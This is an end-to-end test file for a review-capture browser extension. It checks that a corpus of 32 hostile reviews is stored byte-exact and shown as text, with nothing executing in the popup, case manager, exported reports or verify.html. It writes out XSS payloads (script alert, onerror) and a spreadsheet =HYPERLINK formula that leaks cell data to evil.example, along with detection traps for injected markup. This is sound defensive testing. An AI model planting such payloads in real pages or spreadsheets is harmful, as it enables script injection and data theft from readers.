// Hostile input: a review whose author, text and owner reply carry <script>, onerror handlers, RTL overrides and
// zero-width characters AS TEXT (test/fixtures/pages/hostile/). Capturing it runs nothing anywhere (page, popup,
// case manager); the evidence keeps it byte-exact; the extension pages show it literally, as text.
//
// The corpus (test/fixtures/pages/hostile/corpus.ts: 32 reviews) is captured as a series into one case, opened in the
// case manager, exported, and the bundle's report and verify.html are opened in the browser: nothing runs, no link
// that is not http(s) (or the extension's own pages), every field byte-exact, the bundle verifies, the PDF reads.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import JSZip from 'jszip';
import type { Page } from 'puppeteer-core';
import { exportFromManager, startBundleHarness, type BundleHarness } from './bundle-helpers';
import { artefactBytes, dumpStore } from './capture-helpers';
import type { ReviewFields } from '../../src/shared/types';
import { publishedRange } from '../../src/adapters/dates';
import { CORPUS, corpusExpected } from '../fixtures/pages/hostile/corpus';

const expected = (JSON.parse(readFileSync(new URL('../fixtures/pages/hostile/expected.json', import.meta.url), 'utf8')) as ReviewFields[])[0];

let h: BundleHarness;
beforeAll(async () => {
  h = await startBundleHarness();
}, 60_000);
afterAll(async () => {
  await h?.close();
});

/** Everything that would tell that page content ran or became markup in a page. */
interface Watch {
  dialogs: string[];
  csp: string[];
}
function watch(p: Page, w: Watch) {
  p.on('dialog', (d) => {
    w.dialogs.push(`${p.url()}: ${d.message()}`);
    void d.dismiss();
  });
  p.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) w.csp.push(`${p.url()}: ${m.text()}`);
  });
}

/** In the page's own world: traps on alert/confirm/prompt and a record of every element added with a handler or src=x. */
const TRAPS = () => {
  const w = window as unknown as { __pwned: string[] };
  w.__pwned = [];
  for (const name of ['alert', 'confirm', 'prompt'] as const) (window as unknown as Record<string, unknown>)[name] = (m: unknown) => void w.__pwned.push(`${name}:${String(m)}`);
  const seen = (el: Element) => {
    if (el.tagName === 'SCRIPT' && !(el as HTMLScriptElement).src.startsWith('chrome-extension:')) w.__pwned.push(`script element: ${el.textContent}`);
    if (Array.from(el.attributes).some((a) => /^on/i.test(a.name))) w.__pwned.push(`handler attribute on <${el.tagName}>`);
    if (el.tagName === 'IMG' && el.getAttribute('src') === 'x') w.__pwned.push('img src=x');
  };
  new MutationObserver((ms) => {
    for (const m of ms) for (const n of Array.from(m.addedNodes)) if (n instanceof Element) [n, ...Array.from(n.querySelectorAll('*'))].forEach(seen);
  }).observe(document.documentElement, { childList: true, subtree: true });
};
const pwned = (p: Page) => p.evaluate(() => (window as unknown as { __pwned?: string[] }).__pwned ?? ['no trap installed']);
/** Elements that only an injection would create (the pages have no handler attributes of their own). */
const injected = (p: Page) =>
  p.evaluate(() => Array.from(document.querySelectorAll('img[src="x"], [onerror], [onload], [onclick], iframe, object, embed')).map((e) => e.outerHTML.slice(0, 80)));

describe('capture of a hostile review', () => {
  it('runs nothing anywhere, keeps every byte, and shows the text literally in the popup and the case manager', async () => {
    const w: Watch = { dialogs: [], csp: [] };
    const { page, popup } = await h.openPopupOn(`${h.origin}/fixtures/hostile/page.html`);
    watch(page, w);
    watch(popup, w);
    await page.evaluate(TRAPS);
    await popup.evaluate(TRAPS);
    const pageScripts = await page.$$eval('script', (s) => s.length);

    await popup.waitForSelector('li.review');
    // The popup shows the author and the excerpt as text nodes: same characters, no element made of them.
    expect(await popup.$eval('li.review .author', (e) => e.textContent)).toBe(expected.author);
    // The excerpt is a display copy: the text without its outer newline and indentation (the evidence keeps them).
    expect(await popup.$eval('li.review .excerpt', (e) => e.textContent)).toBe(expected.text.trim());
    expect(await popup.$$eval('li.review *', (els) => els.filter((e) => !['DIV', 'SPAN', 'P', 'BUTTON'].includes(e.tagName)).map((e) => e.tagName))).toEqual([]);

    await popup.$eval('li.review button.capture', (b) => (b).click());
    await popup.waitForSelector('li.review .captured', { timeout: 30000 });
    const caseHref = await popup.$eval('li.review a.open-case', (a) => (a).href);
    const caseId = decodeURIComponent(caseHref.split('#case=')[1]);

    // The evidence: fields byte-exact, review.html exactly the element's outerHTML as the page has it.
    const store = await dumpStore(popup);
    const ex = store.exhibits.find((e) => e.caseId === caseId)!;
    expect(ex).toBeDefined();
    for (const k of ['id', 'author', 'authorUrl', 'authorMeta', 'authorSignals', 'rating', 'dateText', 'text', 'placeName', 'photos', 'translated', 'language'] as const) {
      expect(ex.review[k], k).toStrictEqual(expected[k]);
    }
    // The reply's words byte-exact; its date range (« il y a 1 semaine ») moves with the capture day.
    const { publishedRange: replyRange, ...replyWords } = ex.review.ownerReply ?? { text: '' };
    const { publishedRange: _day, ...expectedReply } = expected.ownerReply ?? { text: '' };
    expect(replyWords).toStrictEqual(expectedReply);
    const day = publishedRange(expectedReply.dateText ?? '', new Date(ex.capturedAt.startUtc), ex.capturedAt.timeZone);
    expect(day, 'the reply date understood').toBeDefined();
    expect(replyRange).toEqual({ earliest: day?.earliest, latest: day?.latest });
    expect(Buffer.from(ex.review.text, 'utf8').equals(Buffer.from(expected.text, 'utf8'))).toBe(true);
    const outerHtml = await page.$eval('[data-review-id]', (e) => e.outerHTML);
    expect((await artefactBytes(popup, ex, 'review.html')).equals(Buffer.from(outerHtml, 'utf8'))).toBe(true);
    expect(outerHtml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    const json = JSON.parse((await artefactBytes(popup, ex, 'review.json')).toString('utf8')) as ReviewFields;
    expect(json.text).toBe(expected.text);
    expect(json.author).toBe(expected.author);

    // The case manager shows the captured fields as text.
    const manager = await h.browser.newPage();
    watch(manager, w);
    await manager.evaluateOnNewDocument(TRAPS);
    await manager.goto(h.extUrl(`src/ui/manager/index.html#case=${encodeURIComponent(caseId)}`), { waitUntil: 'load' });
    await manager.waitForSelector('.f-author', { timeout: 15000 });
    expect(await manager.$eval('.f-author', (e) => e.textContent)).toBe(expected.author);
    expect(await manager.$eval('.f-text', (e) => e.textContent)).toBe(expected.text);
    // …and names the invisible characters that change how it reads (the RLO that turns « shcralc » around).
    const hidden = await manager.$eval('.invisible-chars', (e) => e.textContent ?? '');
    expect(hidden).toContain('U+202E RIGHT-TO-LEFT OVERRIDE');
    expect(hidden).toContain('U+200B ZERO WIDTH SPACE');
    expect(await manager.$eval('body', (b) => b.textContent)).toContain('<script>alert(1)</script>');
    await new Promise((r) => setTimeout(r, 300)); // let any image error handler or late render happen

    for (const p of [page, popup, manager]) {
      expect(await pwned(p), p.url()).toEqual([]);
      expect(await injected(p), p.url()).toEqual([]);
    }
    expect(await page.$$eval('script', (s) => s.length)).toBe(pageScripts);
    expect(w.dialogs).toEqual([]);
    expect(w.csp).toEqual([]);
    await manager.close();
    await popup.close();
    await page.close();
  });
});

/** Every link and source of a page: what a click or a load would open. */
const links = (p: Page) => p.evaluate(() => [
  ...Array.from(document.querySelectorAll('a[href]')).map((a) => a.getAttribute('href') ?? ''),
  ...Array.from(document.querySelectorAll('[src]')).map((e) => e.getAttribute('src') ?? ''),
  ...Array.from(document.querySelectorAll('a[href]')).map((a) => (a as HTMLAnchorElement).href),
]);
/** Allowed: http(s), the extension's own pages, scripts and blobs, in-page anchors, the bundle's own files (relative paths). */
const badLinks = (all: string[], extId: string) =>
  all.filter((u) => !(/^https?:\/\//i.test(u) || u.startsWith(`chrome-extension://${extId}/`) || u.startsWith(`blob:chrome-extension://${extId}/`)
    || u.startsWith('#') || /^(?:file:\/\/\/|\/[\w.-]|[\w.-]+\/|[\w.-]+$)/.test(u)));

describe('the hostile corpus (32 reviews) through capture, case manager, export, report and verify.html', () => {
  it('runs nothing anywhere, keeps every field byte-exact, links to nothing but http(s), and exports a bundle that verifies', async () => {
    const w: Watch = { dialogs: [], csp: [] };
    const expected = corpusExpected() as unknown as ReviewFields[];
    const { page, popup, tabId } = await h.openPopupOn(`${h.origin}/fixtures/hostile/corpus.html`);
    watch(page, w);
    watch(popup, w);
    await page.evaluate(TRAPS);
    await popup.evaluate(TRAPS);
    await popup.waitForSelector('.series-link');
    expect(badLinks(await links(popup), h.extensionId), 'popup').toEqual([]);

    expect(await pwned(popup), 'popup').toEqual([]); // the popup closes when the series page opens
    expect(await injected(popup), 'popup').toEqual([]);

    // The series page lists the 32 reviews, as text.
    const opened = h.browser.waitForTarget((t) => t.url().includes(`src/ui/series/index.html?tabId=${tabId}`));
    await popup.click('.series-link');
    const series = (await (await opened).page())!;
    watch(series, w);
    await series.evaluate(TRAPS);
    await series.waitForFunction((n) => document.querySelectorAll('ul.candidates li').length === n, { timeout: 30_000 }, CORPUS.length);
    expect(await series.$$eval('ul.candidates .c-author', (els) => els.map((e) => e.textContent))).toEqual(expected.map((r) => r.author));
    await series.click('input[name=mode][value=all]');
    const t0 = Date.now();
    await series.click('button.start-series');
    await series.waitForSelector('.series-done', { timeout: 120_000 });
    const seriesMs = Date.now() - t0;
    const caseId = decodeURIComponent((await series.$eval('a.open-case', (a) => (a).href)).split('#case=')[1]);

    // The evidence: every review's fields as the page holds them (outer spaces, NUL, lone surrogates included).
    const store = await dumpStore(series);
    const exhibits = store.exhibits.filter((e) => e.caseId === caseId).sort((a, b) => a.sequence - b.sequence).slice(1);
    const status = await series.$eval('.series-status', (e) => e.textContent).catch(() => '');
    expect(exhibits.map((e) => e.review.id), status ?? '').toEqual(expected.map((r) => r.id));
    for (const [i, ex] of exhibits.entries()) {
      const want = expected[i];
      for (const k of ['id', 'author', 'authorUrl', 'authorSignals', 'text', 'placeName', 'placeUrl'] as const) expect(ex.review[k], `${want.id} ${k}`).toStrictEqual(want[k]);
      // The reply's words (its date range moves with the capture day).
      const { publishedRange: _range, ...reply } = ex.review.ownerReply ?? { text: '' };
      expect(ex.review.ownerReply ? reply : undefined, `${want.id} ownerReply`).toStrictEqual(want.ownerReply);
    }
    // review.json is the stored review, byte for byte (JSON escapes keep U+0000 and lone surrogates).
    const json = JSON.parse((await artefactBytes(series, exhibits[20], 'review.json')).toString('utf8')) as ReviewFields;
    expect(json.text).toBe(expected[20].text);

    // The case manager shows the case: nothing runs, no link made of a review.
    const manager = await h.browser.newPage();
    watch(manager, w);
    await manager.evaluateOnNewDocument(TRAPS);
    await manager.goto(h.extUrl(`src/ui/manager/index.html#case=${encodeURIComponent(caseId)}`), { waitUntil: 'load' });
    await manager.waitForSelector('.f-author', { timeout: 30_000 });
    expect(await manager.$eval('body', (b) => b.textContent)).toContain(expected[0].author);
    expect(badLinks(await links(manager), h.extensionId), 'case manager').toEqual([]);
    // The case list names the case after its first review's author: as text too.
    const list = await h.browser.newPage();
    watch(list, w);
    await list.evaluateOnNewDocument(TRAPS);
    await list.goto(h.extUrl('src/ui/manager/index.html'), { waitUntil: 'load' });
    await list.waitForFunction((id) => Array.from(document.querySelectorAll('a[href]')).some((a) => a.getAttribute('href') === `#case=${encodeURIComponent(id)}`), { timeout: 30_000 }, caseId);
    expect(badLinks(await links(list), h.extensionId), 'case list').toEqual([]);

    // Export, verify, and open the report and verify.html from the unzipped bundle.
    const tExport = Date.now();
    const zipPath = await exportFromManager(h, caseId);
    const exportMs = Date.now() - tExport;
    const zipBytes = new Uint8Array(readFileSync(zipPath));
    // The bundle is verified by its own verify.html below (the Node verifier runs on the same corpus in
    // test/unit/hostile-corpus.test.ts).
    const dir = mkdtempSync(join(tmpdir(), 'avise-hostile-bundle-'));
    const zip = await JSZip.loadAsync(zipBytes);
    for (const f of Object.values(zip.files)) {
      if (f.dir) continue;
      mkdirSync(dirname(join(dir, f.name)), { recursive: true });
      writeFileSync(join(dir, f.name), await f.async('uint8array'));
    }
    const inBundle = (suffix: string) => join(dir, Object.keys(zip.files).find((n) => n.endsWith(suffix))!);
    const opened2: Page[] = [];
    const tPages = Date.now();
    const pageMs: string[] = [];
    for (const file of ['/data/rapport-de-capture.html', '/data/capture-report.html', '/verify.html']) {
      const tPage = Date.now();
      const p = await h.browser.newPage();
      opened2.push(p);
      watch(p, w);
      await p.evaluateOnNewDocument(TRAPS);
      await p.goto(pathToFileURL(inBundle(file)).href, { waitUntil: 'load' });
      expect(badLinks(await links(p), h.extensionId), file).toEqual([]);
      if (file.endsWith('rapport-de-capture.html')) {
        const body = (await p.$eval('body', (b) => b.textContent)) ?? '';
        // Every review's text as stored, but U+0000 and lone surrogates, which an HTML file cannot hold, shown as U+FFFD.
        const shown = (x: string) => x.replaceAll('\u0000', '\uFFFD').replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
        for (const r of expected) expect(body.includes(shown(r.text)), r.id).toBe(true);
        expect(body).toContain('U+0000 CONTROL CHARACTER');
        expect(body).toContain('U+D83D LONE SURROGATE');
      }
      if (file === '/verify.html') {
        const input = await p.$('#file');
        await (input as unknown as { uploadFile(f: string): Promise<void> }).uploadFile(zipPath);
        await p.waitForFunction(() => /^[✓✗]/.test(document.getElementById('summary')?.textContent ?? ''), { timeout: 60_000 });
        expect(await p.$eval('#summary', (e) => e.textContent)).toMatch(/^✓/); // every seal, the chain, every file
        expect(badLinks(await links(p), h.extensionId), 'verify.html after the verification').toEqual([]);
      }
      pageMs.push(`${file} ${Date.now() - tPage} ms`);
    }

    // The PDF report: its text extracts, with each review's words and the note on the characters it replaced by « ¤ ».
    const pdfText = execFileSync('pdftotext', ['-enc', 'UTF-8', inBundle('/data/rapport-de-capture.pdf'), '-'], { maxBuffer: 64 << 20 }).toString('utf8');
    expect(pdfText).toContain('<script>window.__pwned = "text"; alert(1)</script> Ce médecin est nul.');
    expect(pdfText).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Voir le dossier")');
    expect(pdfText).toContain('¤');

    console.log(`hostile corpus: ${CORPUS.length} reviews captured in ${seriesMs} ms, exported in ${exportMs} ms (${zipBytes.length} bytes); pages opened from the bundle in ${Date.now() - tPages} ms (${pageMs.join(', ')})`);
    await new Promise((r) => setTimeout(r, 300)); // let any late handler run
    for (const p of [page, series, manager, list, ...opened2]) {
      expect(await pwned(p), p.url()).toEqual([]);
      expect(await injected(p), p.url()).toEqual([]);
    }
    expect(w.dialogs).toEqual([]);
    expect(w.csp).toEqual([]);
    for (const p of [...opened2, list, manager, series, popup, page]) await p.close().catch(() => undefined);
    rmSync(dir, { recursive: true, force: true });
  }, 240_000);
});
